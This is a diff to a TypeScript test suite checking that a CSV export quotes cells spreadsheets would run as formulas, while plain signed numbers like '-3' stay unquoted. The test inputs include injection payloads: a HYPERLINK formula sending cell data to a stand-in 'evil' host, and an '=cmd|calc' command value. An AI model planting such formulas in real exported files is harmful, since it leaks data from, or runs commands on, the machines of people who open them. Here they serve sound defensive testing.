@@ -18,14 +18,19 @@ function parseCsv(text: string): string[][] {
 describe('csvTextCell: a text cell a spreadsheet would run as a formula starts with a quote (OWASP)', () => {
   it('prefixes = + - @ tab and CR, and quotes as csvCell does', () => {
     expect(csvTextCell('=1+1')).toBe("'=1+1");
-    expect(csvTextCell('+1')).toBe("'+1");
-    expect(csvTextCell('-3')).toBe("'-3");
+    expect(csvTextCell('+1+cmd')).toBe("'+1+cmd");
+    expect(csvTextCell('-3-A1')).toBe("'-3-A1");
+    expect(csvTextCell('-1e3')).toBe("'-1e3");
     expect(csvTextCell('@SUM(1+1)')).toBe("'@SUM(1+1)");
     expect(csvTextCell('\tx')).toBe("'\tx");
     expect(csvTextCell('\rx')).toBe(`"'\rx"`);
     expect(csvTextCell('=HYPERLINK("http://evil/?"&A1,"click")')).toBe(
       `"'=HYPERLINK(""http://evil/?""&A1,""click"")"`,
     );
+  });
+
+  it("leaves a plain signed decimal number as it is (hostile-37 M3: a kept -3 became '-3)", () => {
+    for (const text of ['-3', '+5', '-0.25', '+4.62']) expect(csvTextCell(text)).toBe(text);
   });
 
   it('leaves other text alone, a sign inside the text too', () => {
@@ -69,12 +74,13 @@ describe.concurrent('grade -f csv writes no cell a spreadsheet runs as a formula
       'model',
       `'=HYPERLINK("http://evil/?"&A1,"click")`,
       "'@SUM(1+1)",
-      "'-3",
-      "'+7",
+      '-3',
+      '+7',
     ]);
     // The explanation echoes the refused value, but starts with the field, so it needs no quote.
     expect(rows[2]!.at(-1)).toContain('"=1+1"');
-    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+    for (const row of rows)
+      for (const cell of row) if (!/^[+-]\d+(\.\d+)?$/.test(cell)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
   });
 
   it('a --group-by CSV guards the group key the same way', async () => {
@@ -95,7 +101,7 @@ describe.concurrent('grade -f csv writes no cell a spreadsheet runs as a formula
       path,
     ]);
     const rows = parseCsv(stdout);
-    expect(rows.slice(1).map((r) => r[0])).toEqual(["'=cmd|calc", "'-7"]);
+    expect(rows.slice(1).map((r) => r[0])).toEqual(["'=cmd|calc", '-7']);
     expect(rows.slice(1).map((r) => r[1])).toEqual(['1', '2']);
   });
 });
